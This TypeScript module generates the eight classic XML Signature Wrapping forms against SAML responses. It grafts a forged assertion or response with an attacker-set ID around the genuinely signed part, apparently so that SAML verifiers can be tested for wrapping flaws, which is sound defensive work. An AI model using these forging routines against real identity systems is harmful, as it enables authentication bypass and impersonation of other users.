import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

/** The eight classic forms of signature wrapping, as testers of SAML number them. */
export const WRAPPINGS = [1, 2, 3, 4, 5, 6, 7, 8] as const;

const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
const DS = "http://www.w3.org/2000/09/xmldsig#";

/**
 * A signed answer in the clear (the message or its assertion is signed) whose signature still covers the genuine part,
 * while `forge` made another one that a careless reader takes. Both may have the same id.
 */
export function wrapped(
  xml: string,
  attack: {
    readonly form: (typeof WRAPPINGS)[number];
    readonly evilId: string;
    readonly forge: (xml: string) => string;
  },
): string {
  const document = parsed(xml);
  const response = document.documentElement;
  const forged = (element: Element): Element => {
    const evil = parsed(attack.forge(new XMLSerializer().serializeToString(element))).documentElement;
    evil.setAttribute("ID", attack.evilId);
    return evil;
  };
  const { form } = attack;
  if (form === 1 || form === 2) {
    const evil = forged(response);
    const signature = signatureOf(evil);
    const genuine = imported(withoutSignature(response), evil);
    if (signature !== undefined && form === 1) signature.appendChild(genuine);
    else evil.insertBefore(genuine, signature ?? evil.firstChild);
    return new XMLSerializer().serializeToString(evil);
  }
  const assertion = childrenOf(response, { namespace: SAML, local: "Assertion" })[0];
  if (assertion === undefined) throw new Error("the answer has no assertion in the clear");
  const evil = imported(forged(assertion), response);
  const bare = withoutSignature(assertion);
  if (form === 3 || form === 4 || form === 7) drop(signatureOf(evil));
  if (form === 3) response.insertBefore(evil, assertion);
  if (form === 4) {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  }
  if (form === 5) {
    response.replaceChild(evil, assertion);
    response.appendChild(bare);
  }
  if (form === 6) {
    response.replaceChild(evil, assertion);
    (signatureOf(evil) ?? evil).appendChild(bare);
  }
  if (form === 7) {
    const extensions = document.createElementNS(SAMLP, "samlp:Extensions");
    extensions.appendChild(evil);
    response.insertBefore(extensions, assertion);
  }
  if (form === 8) {
    response.replaceChild(evil, assertion);
    const object = document.createElementNS(DS, "ds:Object");
    object.appendChild(bare);
    (signatureOf(evil) ?? evil).appendChild(object);
  }
  return new XMLSerializer().serializeToString(response);
}

/** The same message with every assertion directly in it replaced, for example by an encrypted one. */
export async function withAssertions(
  xml: string,
  replace: (assertion: string) => Promise<string>,
): Promise<string> {
  const response = parsed(xml).documentElement;
  for (const assertion of childrenOf(response, { namespace: SAML, local: "Assertion" })) {
    const other = parsed(await replace(new XMLSerializer().serializeToString(assertion))).documentElement;
    response.replaceChild(imported(other, response), assertion);
  }
  return new XMLSerializer().serializeToString(response);
}

function parsed(xml: string): Document {
  return new DOMParser({ errorHandler: () => undefined }).parseFromString(xml, "text/xml");
}

function imported(element: Element, into: Element): Element {
  return into.ownerDocument.importNode(element, true);
}

function childrenOf(
  parent: Element,
  name: { readonly namespace: string; readonly local: string },
): Element[] {
  const found = parent.getElementsByTagNameNS(name.namespace, name.local);
  return Array.from({ length: found.length }, (_, index) => found.item(index)).flatMap((element) =>
    element?.parentNode === parent ? [element] : [],
  );
}

function signatureOf(element: Element): Element | undefined {
  return childrenOf(element, { namespace: DS, local: "Signature" })[0];
}

function withoutSignature(element: Element): Element {
  const copy = parsed(new XMLSerializer().serializeToString(element)).documentElement;
  drop(signatureOf(copy));
  return imported(copy, element);
}

function drop(element: Element | undefined): void {
  element?.parentNode?.removeChild(element);
}
